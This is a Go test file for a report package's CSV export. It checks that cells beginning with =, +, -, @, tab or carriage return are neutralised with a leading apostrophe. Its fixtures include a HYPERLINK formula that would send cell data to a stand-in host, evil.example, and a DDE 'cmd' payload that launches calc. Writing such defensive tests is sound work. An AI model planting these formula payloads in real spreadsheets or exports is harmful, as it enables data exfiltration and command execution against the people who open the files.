package report

import (
	"bytes"
	"encoding/csv"
	"testing"
)

// TestCSVNeutralisesFormulas (issue 13 finding 10): a text cell that a
// spreadsheet would read as a formula (it starts with = + - @, a tab or a
// carriage return) is written with a leading ', so opening the export runs
// nothing; numbers, negative ones included, stay numbers.
func TestCSVNeutralisesFormulas(t *testing.T) {
	hyperlink := `=HYPERLINK("http://evil.example/?d="&A1,"details")`
	neg := -1.5
	up := &UptimeReport{Group: GroupFacility, Items: []UptimeRow{{
		Key: "+f-1", Name: hyperlink, Facility: "@SUM(A1:A9)", Region: "-north", Country: "\tUG",
		OutageH: -2, UptimePct: &neg, TopCauses: []CauseHours{{Cause: "=cmd|' /C calc'!A0", Hours: 3}},
	}}}
	var b bytes.Buffer
	if err := WriteUptimeCSV(&b, up); err != nil {
		t.Fatal(err)
	}
	row := csvRow(t, b.Bytes(), UptimeColumns)
	for col, want := range map[string]string{
		"key": "'+f-1", "name": "'" + hyperlink, "facility": "'@SUM(A1:A9)", "region": "'-north", "country": "'\tUG",
		"top_causes": "'=cmd|' /C calc'!A0=3", "outage_h": "-2", "uptime_pct": "-1.5", "devices": "0",
	} {
		if row[col] != want {
			t.Errorf("uptime %s: got %q, want %q", col, row[col], want)
		}
	}

	sup := &SupplyReport{Group: GroupRegion, Items: []SupplyRow{{Key: "\rnorth", Name: "=1+1", Region: "north", RatedLPM: -3, DemandLPM: &neg}}}
	b.Reset()
	if err := WriteSupplyCSV(&b, sup); err != nil {
		t.Fatal(err)
	}
	row = csvRow(t, b.Bytes(), SupplyColumns)
	for col, want := range map[string]string{"key": "'\rnorth", "name": "'=1+1", "region": "north", "rated_lpm": "-3", "demand_lpm": "-1.5"} {
		if row[col] != want {
			t.Errorf("supply %s: got %q, want %q", col, row[col], want)
		}
	}
}

func TestCSVText(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "north": "north", "=1": "'=1", "+1": "'+1", "-1": "'-1", "@x": "'@x", "\tx": "'\tx", "\rx": "'\rx",
		"a=b": "a=b", "'=1": "'=1", "Côte d'Ivoire": "Côte d'Ivoire",
	} {
		if got := CSVText(in); got != want {
			t.Errorf("CSVText(%q): got %q, want %q", in, got, want)
		}
	}
}

// csvRow reads a header and one row, by column name.
func csvRow(t *testing.T, b []byte, header []string) map[string]string {
	t.Helper()
	recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil || len(recs) != 2 || len(recs[1]) != len(header) {
		t.Fatalf("got %q (%v), want a header and one row", b, err)
	}
	row := map[string]string{}
	for i, h := range header {
		row[h] = recs[1][i]
	}
	return row
}
